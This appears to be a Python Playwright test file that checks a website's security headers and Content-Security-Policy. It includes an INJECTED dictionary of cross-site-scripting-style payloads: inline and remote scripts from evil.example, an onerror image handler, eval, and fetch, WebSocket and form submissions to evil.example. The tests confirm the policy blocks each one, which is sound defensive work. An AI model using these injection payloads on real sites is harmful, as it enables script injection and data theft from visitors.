"""The security headers in Chromium: they block what is foreign, and nothing of the site.

A blocked thing is an error in the console, which test_every_page.py reads on every page.
"""

from collections.abc import Iterator

import httpx
import pytest
from playwright.sync_api import BrowserContext, ConsoleMessage, Page, expect

from builder_site.contact.message import NOT_SENT
from builder_site.content.contact import CONTACT_PAGE
from builder_site.content.layout import LAYOUT
from builder_site.content.translated import addresses, translated
from builder_site.pages import PAGES
from builder_site.static_kit.build.standalone_page import template_at
from builder_site.static_kit.server.csp import CSP, Policy, read_headers
from tests.languages import CONTACT, NOT_FOUND, PORTUGUESE, named
from tests.provider import Provider, refuse
from tests.servers import Site
from tests.site.form import FAILED, by_both_senders, expect_sent, fill, open_form, send, status
from tests.site.hydrated import open_page

NAMES = (
    "content-security-policy",
    "x-content-type-options",
    "referrer-policy",
    "permissions-policy",
    "cross-origin-opener-policy",
)
REPORT = """
addEventListener("securitypolicyviolation", (event) => reportViolation(
  `${event.effectiveDirective} ${event.blockedURI} ${event.sample} at ${event.sourceFile}`
));
"""


@pytest.fixture
def nothing_blocked(context: BrowserContext) -> Iterator[None]:
    """Fails if a policy blocks anything in the visitor's tabs and iframes."""
    blocked: list[str] = []

    def report(text: str) -> None:
        blocked.append(text)

    def report_console(message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text or "Permissions-Policy" in message.text:
            blocked.append(message.text)

    context.expose_function("reportViolation", report)
    context.add_init_script(REPORT)
    context.on("console", report_console)
    yield
    assert blocked == []


@by_both_senders
@pytest.mark.usefixtures("nothing_blocked")
def test_form_and_map_need_nothing_that_is_blocked(page: Page, provider: Provider) -> None:
    open_form(page, CONTACT)
    send(page)
    expect_sent(page)
    provider.behave(refuse(500))
    fill(page, message="Another message.")
    send(page)
    expect(status(page)).to_have_text(named(page, FAILED))
    page.get_by_title(named(page, "Map of Vilamoura, Faro")).scroll_into_view_if_needed()
    map_title = page.frame_locator("iframe").locator("title")
    expect(map_title).to_have_js_property("textContent", "Map")


@pytest.mark.usefixtures("nothing_blocked", "provider")
def test_result_page_needs_nothing_that_is_blocked(page: Page) -> None:
    page.set_viewport_size({"width": 360, "height": 800})
    page.route("**/assets/*.js", lambda route: route.abort())
    page.goto(CONTACT)
    fill(page)
    send(page)
    expect_sent(page)
    page.get_by_role("button", name=named(page, "Open menu")).click()
    expect(page.get_by_role("dialog", name=named(page, "Menu"))).to_be_visible()


@pytest.mark.usefixtures("nothing_blocked")
def test_header_links_lead_to_their_pages_and_need_nothing_that_is_blocked(page: Page) -> None:
    page.goto(NOT_FOUND)
    page.get_by_role("main").get_by_role("link").first.click()
    main = page.get_by_role("navigation", name=named(page, "Main"))
    links = translated(LAYOUT, PORTUGUESE).navigation
    for link in (*links, *reversed(links)):
        main.get_by_role("link", name=link.label).click()
        page.wait_for_url(f"**{link.href}")
        expect(main.locator("[aria-current=page]")).to_have_text([link.label])
        expect(page.get_by_role("heading", level=1)).to_be_visible()


def test_page_of_a_failure_has_no_inline_code_beyond_the_policy(site: Site) -> None:
    """The build stores it outside the folder of the pages."""
    for contact in addresses(CONTACT_PAGE.meta.route):
        template = template_at(site.pages, contact + NOT_SENT).read_text()
        needed = Policy(site.url).headers([template])[CSP].replace(";", "").split()
        hashes = {source for source in needed if source.startswith("'sha256-")}
        assert len(hashes) >= 2
        assert hashes <= set(read_headers(site.pages)[CSP].replace(";", "").split())


INJECTED = {
    "script-src-elem": "append('script', {textContent: 'window.ran = true'})",
    "script-src-elem ": "append('script', {src: 'https://evil.example/x.js'})",
    "script-src-attr": "append('div', {innerHTML: '<img src=x onerror=\"window.ran = true\">'})",
    "script-src": "setTimeout(() => eval('window.ran = true'))",
    "style-src-elem": "append('style', {textContent: 'body { display: none }'})",
    "frame-src": "append('iframe', {src: 'https://evil.example/'})",
    "object-src": "append('object', {data: 'https://evil.example/x.swf'})",
    "base-uri": "append('base', {href: 'https://evil.example/'})",
    "img-src": "append('img', {src: 'https://evil.example/x.png'})",
    "connect-src": "fetch('https://evil.example/').catch(() => {})",
    "connect-src ": "new WebSocket('wss://evil.example/')",
    "form-action": "append('form', {action: 'https://evil.example/', method: 'post'}).submit()",
}
"""Code by the directive that blocks it; a space makes a second key for the same directive."""
INJECT = """() => new Promise((resolve) => {
  const append = (name, more) => document.body.appendChild(
    Object.assign(document.createElement(name), more));
  addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective));
  setTimeout(() => resolve("not blocked"), 5000);
  %s;
})"""


def test_what_an_attacker_adds_to_a_page_is_blocked(page: Page) -> None:
    open_page(page, CONTACT)
    blocked = {name: page.evaluate(INJECT % code) for name, code in INJECTED.items()}
    assert blocked == {name: name.strip() for name in INJECTED}
    assert page.evaluate("window.ran") is None


@pytest.mark.parametrize(
    ("method", "path"),
    [
        *(("GET", page.meta.route) for page in PAGES),
        *(("GET", path) for path in ("/nope", "/services/", "/health", "/contact/sent")),
        *(("POST", "/contact"), ("POST", "/"), ("OPTIONS", "/contact")),
    ],
)
def test_response_has_the_pages_policy_and_no_server_name(
    site: Site, method: str, path: str
) -> None:
    preflight = {"Origin": "http://evil.example", "Access-Control-Request-Method": "POST"}
    headers = preflight if method == "OPTIONS" else {}
    response = httpx.request(method, site.url + path, headers=headers)
    written = site.pages.joinpath("_headers").read_text().splitlines()[1:]
    expected = dict(line.strip().lower().split(": ", 1) for line in written)
    assert expected.keys() == set(NAMES)
    assert {name: response.headers[name].lower() for name in NAMES} == expected
    assert response.headers["server"] == ""
    assert "access-control-allow-origin" not in response.headers
    # Cloudflare Pages accepts no longer line in that file.
    assert max(map(len, written)) <= 2_000
